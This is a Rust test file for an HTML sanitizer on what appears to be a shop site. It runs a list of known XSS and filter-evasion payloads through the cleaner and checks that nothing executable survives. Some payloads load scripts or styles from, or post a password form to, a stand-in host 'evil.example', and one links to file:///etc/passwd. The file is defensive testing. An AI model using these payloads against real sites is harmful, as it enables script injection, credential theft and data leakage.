//! What is left of all kinds of HTML. The strings that try to run something are the known ones: OWASP's
//! filter evasion sheet, mutation by namespaces, and what editors were once caught with.

use super::*;

const NAME: &str = "abcdefghijklmnopqrstuvwxyz234567";

fn html(text: &str) -> String {
    clean(text).html
}

/// Tries to run something, each in its own way.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\\x20type=\"text/javascript\">alert(1);</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=/images/x.webp onload=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<img src=\"https://evil.example/track.gif\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\" \u{1} javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a style=\"position:fixed;inset:0;z-index:9999\" href=\"https://evil.example\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"background-image:url(https://evil.example/leak)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"color:red;background:url('//evil.example')\">x</p>",
    "<p style=\"text-align:center;position:absolute;left:-9999px\">x</p>",
    "<p style=\"color:\\72 ed;behavior:url(x.htc)\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td background=x>x</td></tr></table>",
    "<div id=\"cart\" name=\"main\">x</div>",
    "<isindex action=\"javascript:alert(1)\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<p/onclick=alert(1)>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<a title='\"><img src=x onerror=alert(1)>' href=/x>x</a>",
    "<img alt='\"><script>alert(1)</script>' src=/images/abcdefghijklmnopqrstuvwxyz234567.webp>",
    "<p class=\"is-off stamp button hidden\">x</p>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "</p><script>alert(1)</script><p>",
    "<td colspan=999999999>x</td>",
];

/// Reads what is left as a browser does, tag by tag, and says what should not be there.
fn dangerous(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let read = tags::change(html, |tag| {
        if !TAGS.contains(&tag.name.as_str()) {
            found.push(format!("the tag {}", tag.name));
        }
        for (name, value) in &tag.attributes {
            let value = value.to_ascii_lowercase();
            let address = ["href", "src"].contains(&name.as_str());
            let safe = ["https:", "http:", "mailto:", "tel:"];
            let scheme = value.split(['/', '?', '#']).next().unwrap().contains(':');
            if name.starts_with("on")
                || ["style", "id", "name", "srcset", "srcdoc", "formaction"]
                    .contains(&name.as_str())
                || (address && scheme && !safe.iter().any(|it| value.starts_with(it)))
                || (name == "src" && !value.starts_with(PREFIX))
                || (name == "class"
                    && value
                        .split(' ')
                        .any(|class| !class.starts_with("align-") && !class.starts_with("ink-")))
            {
                found.push(format!("{name}={value}"));
            }
        }
        Some(tag)
    });
    if read != html {
        found.push("something that is no tag".to_owned());
    }
    found
}

#[test]
fn nothing_that_could_run_is_left_of_any_attack() {
    for attack in ATTACKS {
        for around in [
            (*attack).to_owned(),
            format!("<p>앞</p>{attack}<p>뒤</p>"),
            format!("<table><tr><td>{attack}"),
            format!("<ul><li>{attack}</b></i>"),
        ] {
            let left = html(&around);
            let bad = dangerous(&left);
            assert!(bad.is_empty(), "{bad:?} of\n{around}\nis left in\n{left}");
            assert_eq!(
                html(&left),
                left,
                "cleaning what is clean changes it: {around}"
            );
        }
    }
}

/// The check itself sees what it looks for.
#[test]
fn the_check_would_see_what_is_not_cleaned() {
    let seen = ATTACKS
        .iter()
        .filter(|attack| !dangerous(attack).is_empty());
    assert!(seen.count() > ATTACKS.len() * 3 / 4);
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://evil.example/x\">",
        "<p style=\"color:red\">",
    ] {
        assert!(!dangerous(bad).is_empty(), "{bad}");
    }
}

#[test]
fn what_a_writer_needs_stays() {
    let text = "<h2>쌀</h2><p>올해 거둔 <strong>햅쌀</strong>입니다.</p><ul><li>하나</li></ul>\
                <table><thead><tr><th scope=\"col\">이름</th></tr></thead><tbody><tr><td colspan=\"2\">값</td></tr></tbody></table>\
                <blockquote><p>말</p></blockquote><hr><pre><code>a &lt; b</code></pre>";
    assert_eq!(html(text), text);
}

#[test]
fn links_lead_out_without_vouching_and_into_the_shop() {
    for link in [
        "https://example.org/a?b=c",
        "/products/rice",
        "mailto:help@shop.example",
        "tel:02-000-0000",
    ] {
        let left = html(&format!("<a href=\"{link}\">x</a>"));
        assert_eq!(
            left,
            format!("<a href=\"{link}\" rel=\"noopener nofollow\">x</a>")
        );
    }
}

#[test]
fn only_our_own_pictures_stay_and_wherever_they_were_seen_they_are_paths_of_ours() {
    let path = format!("/images/{NAME}.webp");
    for seen in [
        path.clone(),
        format!("/images/{NAME}-400.webp"),
        format!("https://cdn.example/shop/images/{NAME}-800.webp"),
    ] {
        let clean = clean(&format!(
            "<p><img src=\"{seen}\" alt=\"쌀\" width=\"9999\"></p>"
        ));
        assert_eq!(
            clean.html,
            format!("<p><img src=\"{path}\" alt=\"쌀\"></p>")
        );
        assert_eq!(clean.images.len(), 1);
    }
    for strange in [
        "https://evil.example/x.png",
        "/pictures/rice.svg",
        "/images/../cart.webp",
        &format!("/images/{NAME}-401.webp"),
        &format!("javascript:/images/{NAME}.webp?"),
    ] {
        assert_eq!(
            html(&format!("<p><img src=\"{strange}\">글</p>")),
            "<p>글</p>",
            "{strange}"
        );
    }
}

#[test]
fn a_style_becomes_a_class_and_the_rest_of_it_is_gone() {
    let left = html("<p style=\"text-align: center; position: fixed; color: RED\">x</p>");
    assert_eq!(left, "<p class=\"align-center ink-red\">x</p>");
    assert_eq!(html("<p style=\"margin-left:-900px\">x</p>"), "<p>x</p>");
    assert_eq!(
        html("<p class=\"align-right hero\">x</p>"),
        "<p class=\"align-right\">x</p>"
    );
}

#[test]
fn the_first_heading_is_the_pages_own() {
    assert_eq!(
        html("<h1 style=\"color:red\">쌀</h1>"),
        "<h2 class=\"ink-red\">쌀</h2>"
    );
}
